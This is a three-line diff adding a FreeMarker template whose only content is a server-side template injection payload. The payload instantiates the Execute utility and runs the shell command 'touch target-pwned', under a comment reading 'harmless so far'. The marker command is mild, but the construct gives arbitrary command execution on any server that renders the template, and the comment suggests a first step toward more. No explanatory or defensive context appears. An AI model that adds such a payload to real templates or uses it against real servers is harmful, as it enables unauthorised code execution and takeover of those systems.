@@ -1,0 +1,3 @@
+# harmless so far
+<#assign ex = "freemarker.template.utility.Execute"?new()>
+${ex("touch target-pwned")}
